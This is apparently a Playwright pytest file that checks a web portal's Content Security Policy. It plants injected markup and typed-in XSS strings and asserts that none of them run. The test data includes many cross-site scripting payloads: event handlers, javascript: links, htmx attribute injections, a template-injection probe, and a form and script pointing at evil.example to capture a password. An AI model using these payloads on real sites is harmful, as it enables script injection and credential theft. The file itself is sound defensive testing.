"""The policy in a real browser: the portal's own pages never break it, and what gets past all escaping cannot run.

ASVS 3.4.3, 3.4.7. That every answer carries the policy: ``tests/security/test_headers.py``.
"""

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.browser import steps
from tests.browser.steps import CONTACTS

LISTENER = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.note(JSON.stringify([event.effectiveDirective, event.blockedURI, location.pathname]));
});
"""
# What runs in a page that lets it.
PLANTED = """
<script>window.planted = "an inline script"</script>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,window.planted='a script in its address'"></script>
<img src="x" onerror="window.planted = 'an event handler'">
<svg onload="window.planted = 'an event handler of a drawing'"></svg>
<iframe srcdoc="<script>parent.planted = 'a frame'</script>"></iframe>
<iframe src="javascript:parent.planted = 'an address of a frame'"></iframe>
<object data="data:text/html,<script>1</script>"></object>
<base href="https://evil.example/">
<div id="planted-on" hx-on:click="window.planted = 'a handler of htmx'"
     hx-on:htmx:after:init="window.planted = 'a handler of htmx'">x</div>
<div id="planted-filter" hx-get="/livez" hx-trigger="click[window.planted = 'a filter of htmx']">x</div>
<div id="planted-values" hx-get="/livez" hx-trigger="click" hx-vals="js:{a: window.planted = 'values of htmx'}">x</div>
<a id="planted-link" href="javascript:window.planted = 'a link'">x</a>
<div id="planted-far" hx-get="https://evil.example/" hx-trigger="load">x</div>
<form id="planted-form" action="https://evil.example/" method="post"><input name="password"><button>x</button></form>
<style>body { background: url(https://evil.example/x.png) }</style>
"""
PLACE = '<div class="app-list-foot">'
CLICKED = ("planted-on", "planted-filter", "planted-values", "planted-link")


@pytest.fixture
def violations(open_browser: Callable[..., Any]) -> tuple[Any, list[tuple[str, str, str]]]:
    """A page, and every break of the policy in it, whichever document it was."""
    found: list[tuple[str, str, str]] = []
    page = open_browser()
    page.context.expose_function("note", lambda text: found.append(tuple(json.loads(text))))
    page.context.add_init_script(LISTENER)
    return page, found


def visitors_pages(page: Any) -> None:
    for url in ("/sign-in", "/recover?need=password", "/find-administrator?q=county", "/find-administrator/42061"):
        page.goto(url)
    page.goto("/no-such-page")
    steps.fail_to_sign_in(page, "nobody.at.all", 1)


def search_and_page(page: Any) -> None:
    page.get_by_role("link", name="All people").click()
    page.wait_for_url("**tab=people**")
    page.get_by_label("Search by name, e-mail, username, number or phone").fill("okonk")
    page.get_by_text("Results 1 - 1 of 1").wait_for()


def keep_a_contact(page: Any) -> None:
    page.goto(CONTACTS)
    steps.make_contact(page, "Polly", "Policy", "polly@coe.example")
    page.locator("#last_name").fill("")
    page.get_by_role("button", name="Save", exact=True).click()
    page.locator(".nhsuk-error-summary").wait_for()
    page.locator("#last_name").fill("Policy")
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("Nothing was different").wait_for()
    steps.press(page, "Register", becomes="registration-pending")
    page.once("dialog", lambda dialog: dialog.accept())
    page.locator("#self-service-details").get_by_role("button", name="Re-Enrol").click()
    page.get_by_text("The contact has been re-enrolled.").wait_for()


def test_no_page_of_the_portal_breaks_its_policy(
    violations: tuple[Any, list[Any]], sign_in: Callable[[Any, str], None]
) -> None:
    page, found = violations
    page.watch.expect_status(404, 422)
    visitors_pages(page)
    sign_in(page, "local_administrator")
    search_and_page(page)
    keep_a_contact(page)
    steps.open_letter(page, "polly@coe.example", "new temporary password")
    page.goto("/account")
    page.goto("/organisations")
    assert found == []


def with_planted(route: Any) -> None:
    """The portal's own answer, its headers untouched, with markup that no template would let through."""
    answer = route.fetch()
    body = answer.text()
    route.fulfill(response=answer, body=body.replace(PLACE, f"{PLANTED}{PLACE}", 1))


@pytest.mark.parametrize("swapped", [False, True], ids=["in a page", "in a fragment"])
def test_markup_that_got_past_all_escaping_does_nothing(
    swapped: bool, violations: tuple[Any, list[tuple[str, str, str]]]
) -> None:
    page, found = violations
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    if swapped:
        page.goto("/find-administrator")
        page.route("**/find-administrator**", with_planted)
        page.get_by_role("searchbox").or_(page.locator("#q")).first.fill("county")
    else:
        page.route("**/find-administrator**", with_planted)
        page.goto("/find-administrator")
    page.locator("#planted-form").wait_for(state="attached")
    # Real clicks: what DevTools evaluates, and what that calls, is above the policy.
    for name in CLICKED:
        page.locator(f"#{name}").click()
    page.locator("#planted-form button").scroll_into_view_if_needed()
    place = page.locator("#planted-form button").bounding_box()
    page.mouse.click(place["x"] + 3, place["y"] + 3)
    page.wait_for_timeout(500)
    assert page.evaluate("window.planted") is None
    assert page.url.startswith(page.watch.origin), "nobody is led elsewhere by a form"
    assert page.evaluate("document.baseURI").startswith(page.watch.origin)
    assert page.locator("#planted-form").count() == 1
    broken = {directive for directive, _uri, _path in found}
    assert {"script-src-attr", "form-action", "base-uri", "object-src"} <= broken, broken
    assert not [url for url in asked if "evil.example" in url and not blocked(url, found)]
    # What the console and the watch say of it is what this test is about.
    page.watch.wrong.clear()


def blocked(url: str, found: list[tuple[str, str, str]]) -> bool:
    return any(uri and url.startswith(uri) for _directive, uri, _path in found)


def test_what_people_typed_into_every_field_does_nothing(
    violations: tuple[Any, list[Any]], sign_in: Callable[[Any, str], None]
) -> None:
    page, found = violations
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, "local_administrator")
    steps.make_contact(page, "<img src=x onerror=planted=1>", '"><script>planted=1</script>', "plain@coe.example")
    page.locator("#middle_name").fill('" hx-get="//evil.example" hx-trigger="load')
    page.get_by_label("Job Title").fill("{{7*191}}<svg onload=planted=1>")
    page.get_by_label("Employee number").fill("' hx-on:load='planted=1")
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("The changes have been saved.").wait_for()
    number = str(page.url).partition("/contacts/")[2].partition("?")[0].partition("#")[0]
    steps.press(page, "Register", becomes="registration-pending")
    for url in (
        CONTACTS,
        f"{CONTACTS}/{number}",
        f"{CONTACTS}?q=%3Cimg",
        "/find-administrator?q=<img src=x onerror=planted=1>",
    ):
        page.goto(url)
        page.wait_for_timeout(100)
        assert page.evaluate("window.planted") is None
        assert page.locator("img[src=x], main script, main svg[onload], [hx-get^='//']").count() == 0
    letter = steps.open_letter(page, "plain@coe.example", "temporary password")
    assert '<img src=x onerror=planted=1> " hx-get="//evil.example" hx-trigger="load "><script>' in letter
    assert page.evaluate("window.planted") is None
    assert "1337" not in page.content()
    assert (found, dialogs) == ([], [])
